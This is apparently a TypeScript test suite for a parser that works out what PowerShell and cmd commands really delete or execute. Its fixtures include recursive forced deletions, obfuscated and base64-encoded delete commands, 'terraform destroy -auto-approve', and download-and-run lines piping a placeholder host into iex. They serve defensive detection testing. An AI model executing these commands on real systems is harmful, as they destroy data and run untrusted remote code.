// PowerShell and cmd: the same calls, in the dialect's own words.
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { parseCmd } from '../../../../src/core/parse/cmd/parseCmd';
import { parsePowerShell } from '../../../../src/core/parse/powershell/parsePowerShell';
import { callsOf, lines } from '../callsOf';
import { growsInProportion } from '../../growth';

const encoded = Buffer.from('Remove-Item -Recurse C:\\data', 'utf16le').toString('base64');
const world = { files: { '/work/app/x.ps1': 'param($target)\nRemove-Item -Recurse $target\n' } };

const powershell: readonly (readonly [command: string, last: string])[] = [
  ['Remove-Item -Recurse -Force "C:\\x y", .\\a', 'remove-item -Recurse -Force C:\\x y .\\a'], ['Re`move-It`em x', 'remove-item x'], ['$p = "C:\\d"; & "rm" $p\\*', 'rm C:\\d\\*'], ['ri $env:HOME\\x', 'ri /home/u\\x'], ["ri '$notput'", 'ri $notput'],
  ['[System.IO.Directory]::Delete("d", $true)', 'remove-item -Recurse -LiteralPath d'], ['[IO.File]::Delete("q")', 'remove-item -LiteralPath q'], ['(Get-Item x).Delete()', 'remove-item -Recurse x'],
  ['Get-ChildItem *.log | % { del $_.FullName }', 'del *.log'], ['"a" | ForEach-Object { Remove-Item $_ }', 'remove-item a'], ['foreach ($f in @("a")) { rm $f }', 'rm a'], ['"a", "b" | Remove-Item', 'remove-item a b'],
  ['Get-ChildItem d | Where-Object { $_.Length } | Remove-Item', 'remove-item'], ["$p = @{ Path = 'a'; Recurse = $true; Force = $false }; Remove-Item @p", 'remove-item -Path a -Recurse'], ["$p = @{ Path = $x + 'b' }; ri @p", "ri -Path <$x + 'b'>"], ['ri @nothere', 'ri <@nothere>'], ['function X($a) { Remove-Item $a }; X b', 'remove-item b'], ['iex "rm z"', 'rm z'], ['$c = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("cm0geA==")); iex $c', 'rm x'], [`powershell -enc ${encoded}`, 'remove-item -Recurse C:\\data'],
  ['cmd /c "rd /s /q C:\\x"', 'rd /s /q C:\\x'], ["Start-Process cmd -ArgumentList '/c','del x' -Verb RunAs", 'del x'], ['.\\x.ps1 foo', 'remove-item -Recurse foo'], ['if ($a) { rm x } else { q }', 'q'], ['try { rm x } finally { del y }', 'del y'], ['bash -c "rm -rf x"', 'rm -rf x'], ['rm x # note', 'rm x'], ['rm x <# not y #> z', 'rm x z'], ['terraform destroy -auto-approve', 'terraform destroy -auto-approve'],
];
const cmd: readonly (readonly [command: string, last: string])[] = [
  ['rd /s /q C:\\x', 'rd /s /q C:\\x'], ['r^d/s/q x', 'rd /s /q x'], ['d^el "a b.txt"', 'del a b.txt'], ['set T=C:\\d & rd /s /q %T%\\x', 'rd /s /q C:\\d\\x'], ['if exist b (rd /s /q b) else echo no', 'rd /s /q b'], ['for /d %%i in (*) do rd /s /q "%%i"', 'rd /s /q *'], ['cd sub && del *.*', 'del *.*'], ['cmd /c "del q"', 'del q'], ['powershell -Command "Remove-Item x"', 'remove-item x'], ['start /b del q', 'del q'], ['for /r sub %f in (*.md) do del /q "%f"', 'del /q sub\\*.md'], ['for /r "a b" %f in (*.md) do del "%f"', 'del <"%f">'],
];

describe('PowerShell and cmd', () => {
  for (const [command, last] of powershell) it(command, async () => { assert.equal((await lines(command, { shell: 'powershell', world })).at(-1), last); });
  for (const [command, last] of cmd) it(`cmd: ${command}`, async () => { assert.equal((await lines(command, { shell: 'cmd' })).at(-1), last); });

  it('does not take text for action', async () => {
    assert.ok(!(await lines('Write-Host "Remove-Item x"; echo "rm y"', { shell: 'powershell' })).some(text => /^(?:rm|remove)/.test(text)));
    assert.ok(!(await lines('echo rd /s /q C:\\', { shell: 'cmd' })).some(text => text.startsWith('rd')));
  });

  it('text that something else gives is not read as if it were written here', async () => {
    for (const [command, trait] of [["iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/i.ps1'))", 'fromNetwork'], ['iex (irm https://x.example)', 'fromNetwork'], ['iex $fromSomewhere', 'unknownText'], ['iex (Get-Content x.ps1 -Raw)', 'unknownText']] as const) {
      assert.ok((await callsOf(command, { shell: 'powershell' })).found.effects.some(one => one.effect.traits.includes(trait)), command);
    }
    for (const command of ['iex "Get-Date"', "$c = 'Get-Date'; iex $c"]) assert.ok(!(await callsOf(command, { shell: 'powershell' })).found.effects.some(one => one.effect.operation === 'execute'), command);
  });

  it('names code from the network, user and host', async () => {
    for (const command of ['iwr https://x.example/i.ps1 | iex', '(New-Object Net.WebClient).DownloadString("http://x.example") | iex']) {
      assert.ok((await callsOf(command, { shell: 'powershell' })).found.effects.some(one => one.effect.traits.includes('fromNetwork')), command);
    }
    const remote = (await callsOf('Invoke-Command -ComputerName srv -ScriptBlock { Remove-Item z }', { shell: 'powershell' })).calls.at(-1);
    assert.equal(remote?.host, 'srv');
    assert.equal((await callsOf("Start-Process cmd -ArgumentList '/c','del x' -Verb RunAs", { shell: 'powershell' })).calls.at(-1)?.user, 'root');
  });

  it('never throws or hangs', async () => {
    const pieces = fc.array(fc.constantFrom('rm ', '$x', '"', "'", '`', '(', ')', '{', '}', '|', ';', '@(', '@{', '[IO.File]::Delete(', ',', '\n', 'if ', 'foreach ($f in ', 'function f', '<#', '#>', '@"\n', '"@', '$(', '%', '^', '&', '/s', '>'), { maxLength: 40 }).map(parts => parts.join(''));
    fc.assert(fc.property(pieces, text => { parsePowerShell(text); parseCmd(text); }), { numRuns: 2000 });
    await fc.assert(fc.asyncProperty(pieces, async text => { await callsOf(text, { shell: 'powershell' }); await callsOf(text, { shell: 'cmd' }); }), { numRuns: 200 });
  });

  it('takes time in proportion to the text', async () => {
    for (const [part, size] of [['(', 6000], ['{', 6000], ['$(', 6000], ['"$(', 2500], ['rm x;', 2500]] as const) {
      await growsInProportion(count => parsePowerShell(part.repeat(count)), size, part);
      await growsInProportion(count => parseCmd(part.repeat(count)), size, part);
    }
  }).timeout(120_000);
});
